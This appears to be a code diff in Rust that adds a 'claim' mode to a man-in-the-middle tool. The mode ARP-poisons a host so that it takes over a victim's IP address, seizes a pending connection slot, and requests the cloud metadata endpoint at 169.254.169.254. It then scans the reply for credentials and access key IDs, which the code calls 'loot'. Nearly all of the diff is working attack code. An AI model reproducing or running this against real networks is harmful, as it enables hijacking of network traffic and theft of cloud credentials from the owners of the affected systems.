@@ -473,6 +473,84 @@ fn lure(link: &mut Link, gateway: Party, victim: Party, report: &mut MitmReport)
     report.poison_frames += sent as u64;
 }
 
+/// How long `claim` poisons before it connects: the host's neighbour
+/// entry takes a forged update only a second (locktime) after its last.
+const CLAIM_POISON: Duration = Duration::from_millis(2500);
+/// How long `claim` waits for the slot.
+const CLAIM_WAIT: Duration = Duration::from_secs(10);
+/// How long `claim`'s one exchange may take.
+const CLAIM_EXCHANGE: Duration = Duration::from_secs(5);
+
+/// Another job's pending connect, taken with packets alone (see the
+/// `claim` mode): the victim's address is ours for the host, and the
+/// connection to the victim's slot comes from it.
+pub(super) fn claim(
+    iface: &str,
+    victim: Ipv4Addr,
+    dst: Ipv4Addr,
+    path: &str,
+) -> anyhow::Result<serde_json::Value> {
+    let gateway = default_gateway(iface)?;
+    let deadline = Instant::now() + RESOLVE_TIME + CLAIM_POISON + CLAIM_WAIT + CLAIM_EXCHANGE;
+    let mut report = MitmReport {
+        method: Method::Arp,
+        socket_error: None,
+        error: None,
+        gateway_mac: None,
+        victim_mac: None,
+        poison_frames: 0,
+        send_errors: 0,
+        first_send_error: None,
+        relayed_frames: 0,
+        frames_for_victim: 0,
+        loot: Loot::default(),
+    };
+    // Every ARP request for the victim's address is answered as ours.
+    let mut link = match Link::open(iface, victim, dst, deadline)? {
+        Ok(link) => link,
+        Err(e) => {
+            report.socket_error = Some(e);
+            return Ok(json!({ "mode": "claim", "socket_error": report.socket_error }));
+        }
+    };
+    let gateway = match link.resolve(gateway) {
+        Ok(Some(mac)) => Party { ip: gateway, mac },
+        _ => anyhow::bail!("gateway {gateway} did not answer ARP"),
+    };
+    let victim = Party {
+        ip: victim,
+        mac: [0; 6],
+    };
+    let end = Instant::now() + CLAIM_POISON;
+    while Instant::now() < end {
+        lure(&mut link, gateway, victim, &mut report);
+        let _ = link.recv(Instant::now() + Duration::from_millis(100));
+    }
+    // Poisoned: now the victim's slot, once it is pending.
+    println!("{}", json!({ "poisoned": report.poison_frames }));
+    let mut line = String::new();
+    std::io::stdin()
+        .read_line(&mut line)
+        .context("reading the slot")?;
+    let port: u16 = line.trim().parse().context("the slot")?;
+    let dst = std::net::SocketAddrV4::new(dst, port);
+    let request =
+        format!("GET {path} HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n");
+    let exchange = super::tcp_exchange(&mut link, gateway.mac, dst, request.as_bytes());
+    report.loot.scan(&exchange.response);
+    let response = super::parse_response(&exchange.response);
+    Ok(json!({
+        "mode": "claim",
+        "poison_frames": report.poison_frames,
+        "connected": exchange.connected,
+        "error": exchange.error,
+        "status": response.as_ref().map(|r| r.status),
+        "body": response.map(|r| r.body),
+        "saw_credentials": report.loot.saw_credentials,
+        "access_key_ids": report.loot.access_key_ids,
+    }))
+}
+
 /// Every frame of `iface`, both ways, for `duration`, searched whole.
 pub(super) fn sniff(iface: &str, duration: Duration) -> anyhow::Result<serde_json::Value> {
     let ifindex =
